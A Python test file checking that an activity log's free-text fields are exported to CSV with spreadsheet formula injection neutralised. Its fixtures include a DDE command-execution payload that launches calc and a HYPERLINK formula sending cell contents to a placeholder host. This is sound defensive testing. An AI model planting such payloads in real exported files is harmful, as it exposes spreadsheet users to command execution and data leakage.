"""Notebook 02's activity section writes its three results tables, the free text of the log
(types, titles, reasons) safe for spreadsheets: a reason written as a formula is shown as text."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from evaluation.steps.activities import calendar


class _Run:
    """What the section uses of a run: the accepted activity table and `save`."""

    def __init__(self, out_dir: Path, activities: pd.DataFrame | None) -> None:
        self.out_dir, self.fingerprint, self._written = out_dir, "test", []
        self.accepted = {} if activities is None else {"activities": activities}

    def save(self, frame: pd.DataFrame, name: str) -> Path:
        path = self.out_dir / f"{name}.csv"
        frame.to_csv(path, index=False)
        self._written.append(path)
        return path


def test_free_text_is_written_safe_for_spreadsheets(tmp_path: Path) -> None:
    activities = pd.DataFrame(
        {
            "partnership_id": ["P1", "P1"],
            "activity_no": [1, 2],
            "activity_type": ["@SUM(A1:A9)", "visit"],
            "title": ["+cmd|' /C calc'!A0", "-3"],
            "planned_month": ["2022-10", "2022-11"],
            "status": ["cancelled", "done"],
            "completed_on": pd.to_datetime([None, "2022-11-08"]),
            "reason": ['=HYPERLINK("http://example.org/?x="&A1)', ""],
        }
    )
    calendar(_Run(tmp_path, activities))
    written = pd.read_csv(tmp_path / "activities.csv", dtype=str, keep_default_na=False)
    assert written["reason"].tolist() == ['\'=HYPERLINK("http://example.org/?x="&A1)', ""]
    assert written["activity_type"].tolist() == ["'@SUM(A1:A9)", "visit"]
    assert written["title"].tolist() == ["'+cmd|' /C calc'!A0", "-3"]  # a plain number stays a number
    summary = pd.read_csv(tmp_path / "activity_summary.csv")
    assert summary[["planned", "done", "cancelled"]].values.tolist() == [[2, 1, 1], [2, 1, 1]]


def test_without_an_activity_table_the_tables_have_columns_and_no_rows(tmp_path: Path) -> None:
    calendar(_Run(tmp_path, None))
    for name in ("activities", "activity_summary", "activity_months"):
        frame = pd.read_csv(tmp_path / f"{name}.csv")
        assert frame.empty and len(frame.columns) > 3, name
